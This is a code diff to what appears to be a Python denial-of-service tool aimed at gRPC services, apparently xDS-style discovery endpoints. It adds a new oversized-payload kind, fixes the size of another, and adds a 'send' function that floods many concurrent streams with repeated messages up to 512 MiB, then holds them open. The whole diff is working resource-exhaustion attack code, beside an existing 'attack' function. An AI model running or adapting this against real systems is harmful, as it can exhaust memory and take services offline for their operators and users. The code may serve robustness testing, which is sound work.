@@ -55,9 +55,10 @@ KINDS: Final[dict[str, Callable[[int], bytes]]] = {
     "same_name": lambda size: ask(field(3, b"chat") * (size // 6)),
     "empty_names": lambda size: ask(b"\x1a\x00" * (size // 2)),
     "unlike_names": lambda size: ask(_unlike(size)),
+    "locators": lambda size: ask(field(7, b"") * (size // 2)),
     "node_id": lambda size: ask(node="x" * size),
     "extensions": lambda size: ask(beside=field(9, b"") * (size // 2)),
-    "metadata": lambda size: ask(beside=_deep() * (size // 400)),
+    "metadata": lambda size: ask(beside=_deep() * (size // len(_deep()))),
     "error": lambda size: ask(names=field(6, field(2, b"x" * size))),
     "type_url": lambda size: ask(type_url="x" * size),
     "clusters": lambda _: ask(type_url=TYPE_CLUSTER),
@@ -97,6 +98,36 @@ async def attack(
 
     with contextlib.suppress(TimeoutError):
         async with asyncio.timeout(seconds), grpc.aio.insecure_channel(address, options=options) as channel:
+            await asyncio.gather(*(one(channel) for _ in range(streams)))
+    return sent
+
+
+async def send(
+    address: str,
+    method: str,
+    message: bytes,
+    *,
+    streams: int = 8,
+    most_bytes: int = 512 << 20,
+    seconds: float = 10.0,
+) -> int:
+    """Send one message again and again on so many streams; returns the bytes sent."""
+    sent = 0
+
+    async def one(channel: grpc.aio.Channel) -> None:
+        nonlocal sent
+        stream: Any = channel.stream_stream(method)
+        while sent < most_bytes:
+            call = stream()
+            with contextlib.suppress(grpc.aio.AioRpcError, asyncio.InvalidStateError):
+                while sent < most_bytes:
+                    await call.write(message)
+                    sent += len(message)
+            await asyncio.sleep(0.01)
+        await asyncio.sleep(_FOREVER)
+
+    with contextlib.suppress(TimeoutError):
+        async with asyncio.timeout(seconds), grpc.aio.insecure_channel(address) as channel:
             await asyncio.gather(*(one(channel) for _ in range(streams)))
     return sent
 
